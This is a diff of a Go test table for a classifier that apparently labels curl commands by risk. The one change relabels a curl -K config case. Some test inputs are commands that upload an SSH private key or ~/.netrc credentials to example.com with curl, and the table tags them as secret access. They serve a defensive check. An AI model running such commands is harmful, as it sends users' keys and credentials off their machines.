@@ -106,7 +106,7 @@ func TestClassifyRules(t *testing.T) {
 		{[]string{"curl", "-o", "page.html", "https://example.com"}, "read+write+net"},
 		{[]string{"curl", "-sSLo", f.Out + "/p", "https://example.com"}, "read+write+net+outside"},
 		{[]string{"curl", "--out", "p", "https://example.com"}, "read+write+net"},
-		{[]string{"curl", "-K", "cfg", "https://example.com"}, "read+write+exec+net"},
+		{[]string{"curl", "-K", "cfg", "https://example.com"}, "read+exec+net"},
 		{[]string{"curl", "-T", f.Home + "/.ssh/id_ed25519", "https://example.com"}, "read+net+secret"},
 		{[]string{"curl", "-d", "@" + f.Home + "/.netrc", "https://example.com"}, "read+net+secret"},
 		{[]string{"curl", "-n", "https://example.com"}, "read+net+secret"},
